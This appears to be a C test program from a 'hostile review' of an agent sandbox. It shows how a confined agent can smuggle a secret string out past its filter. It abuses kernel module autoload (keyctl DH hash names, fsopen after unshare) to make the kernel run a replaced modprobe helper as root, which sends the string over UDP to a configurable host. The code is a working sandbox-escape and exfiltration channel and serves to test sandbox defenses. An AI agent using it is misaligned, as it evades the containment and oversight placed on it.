@@ -1,0 +1,137 @@
+/* ha13-modprobe: hostile review h-attack13. The kernel's module autoload
+ * starts /sbin/modprobe (kernel.modprobe) as a usermode helper, full root
+ * in the initial namespaces, outside the filter and the tree, with a module
+ * name built from a string the agent chose, and no capability is checked:
+ *
+ *   ha13-modprobe dh SECRET     keyctl(KEYCTL_DH_COMPUTE) with KDF
+ *                               parameters whose hash name is SECRET: the
+ *                               hash is allocated before any key is read
+ *                               (keys/dh.c, kdf_alloc -> crypto_alloc_shash
+ *                               -> crypto_larval_lookup:
+ *                               request_module("crypto-%s") and
+ *                               "crypto-%s-all"), up to 127 bytes
+ *   ha13-modprobe fsopen SECRET unshare(CLONE_NEWUSER | CLONE_NEWNS), then
+ *                               fsopen(SECRET): get_fs_type ->
+ *                               request_module("fs-%s") before any LSM hook
+ *   ha13-modprobe install DEST  root service (guest cell): copies itself to
+ *                               /sbin/ha13-modprobe-helper, points
+ *                               kernel.modprobe at it, writes DEST, holds a
+ *                               UDP socket on 127.0.0.1:9998 and sleeps
+ *
+ * Helper mode (argv[0] ends in "modprobe-helper"): the stand-in for
+ * modprobe (kmod itself only searches modules.alias and runs the
+ * configuration's install commands): it sends its argv as one UDP datagram
+ * to DEST:9999. The agent makes no socket call. */
+#include <arpa/inet.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/keyctl.h>
+#include <netinet/in.h>
+#include <sched.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#define DEST_FILE "/etc/ha13-modprobe.dest"
+#define HELPER "/sbin/ha13-modprobe-helper"
+
+static int helper(int argc, char **argv)
+{
+	char msg[2048] = "modprobe helper uid ", dest[64] = "127.0.0.2";
+	struct sockaddr_in sin = {.sin_family = AF_INET, .sin_port = htons(9999)};
+	FILE *df = fopen(DEST_FILE, "r");
+	int s;
+
+	if (df) {
+		if (fscanf(df, "%63s", dest) != 1)
+			strcpy(dest, "127.0.0.2");
+		fclose(df);
+	}
+	snprintf(msg + strlen(msg), sizeof(msg) - strlen(msg), "%d argv:", getuid());
+	for (int i = 1; i < argc; i++)
+		snprintf(msg + strlen(msg), sizeof(msg) - strlen(msg), " '%s'", argv[i]);
+	s = socket(AF_INET, SOCK_DGRAM, 0);
+	inet_pton(AF_INET, dest, &sin.sin_addr);
+	sendto(s, msg, strlen(msg), 0, (struct sockaddr *)&sin, sizeof(sin));
+	return 1;
+}
+
+static int install(const char *dest)
+{
+	char buf[65536];
+	int in = open("/proc/self/exe", O_RDONLY), out;
+	ssize_t n;
+	FILE *f;
+
+	mkdir("/sbin", 0755);
+	out = open(HELPER, O_WRONLY | O_CREAT | O_TRUNC, 0755);
+	if (in < 0 || out < 0) {
+		perror("install");
+		return 1;
+	}
+	while ((n = read(in, buf, sizeof(buf))) > 0)
+		if (write(out, buf, (size_t)n) != n)
+			return 1;
+	close(in);
+	close(out);
+	f = fopen(DEST_FILE, "w");
+	if (!f)
+		return 1;
+	fprintf(f, "%s\n", dest);
+	fclose(f);
+	f = fopen("/proc/sys/kernel/modprobe", "w");
+	if (!f || fprintf(f, "%s\n", HELPER) < 0 || fclose(f) != 0) {
+		perror("kernel.modprobe");
+		return 1;
+	}
+	{
+		struct sockaddr_in sin = {.sin_family = AF_INET, .sin_port = htons(9998)};
+		int s = socket(AF_INET, SOCK_DGRAM, 0);
+
+		sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+		if (bind(s, (struct sockaddr *)&sin, sizeof(sin)) != 0)
+			perror("bind");
+		printf("installed %s as kernel.modprobe, helper destination %s:9999\n", HELPER,
+		       dest);
+		fflush(stdout);
+		for (;;)
+			pause();
+	}
+}
+
+int main(int argc, char **argv)
+{
+	const char *mode = argc > 1 ? argv[1] : "dh";
+	const char *secret = argc > 2 ? argv[2] : "agent-secret-0042";
+	size_t l = strlen(argv[0]);
+	long rc;
+
+	if (l >= 15 && strcmp(argv[0] + l - 15, "modprobe-helper") == 0)
+		return helper(argc, argv);
+	if (strcmp(mode, "install") == 0)
+		return install(secret);
+	if (strcmp(mode, "dh") == 0) {
+		struct keyctl_dh_params p = {.private = 1, .prime = 1, .base = 1};
+		struct keyctl_kdf_params k;
+		char out[64];
+
+		memset(&k, 0, sizeof(k));
+		k.hashname = (char *)secret;
+		rc = syscall(SYS_keyctl, KEYCTL_DH_COMPUTE, &p, out, sizeof(out), &k);
+	} else if (strcmp(mode, "fsopen") == 0) {
+		rc = unshare(CLONE_NEWUSER | CLONE_NEWNS);
+		printf("agent: unshare = %ld (%s)\n", rc, rc < 0 ? strerror(errno) : "ok");
+		rc = syscall(SYS_fsopen, secret, 0);
+	} else {
+		fprintf(stderr, "usage: ha13-modprobe dh|fsopen|install SECRET\n");
+		return 2;
+	}
+	printf("agent uid %d: %s(%s) = %ld (%s)\n", getuid(), mode, secret, rc,
+	       rc < 0 ? strerror(errno) : "ok");
+	return 0;
+}
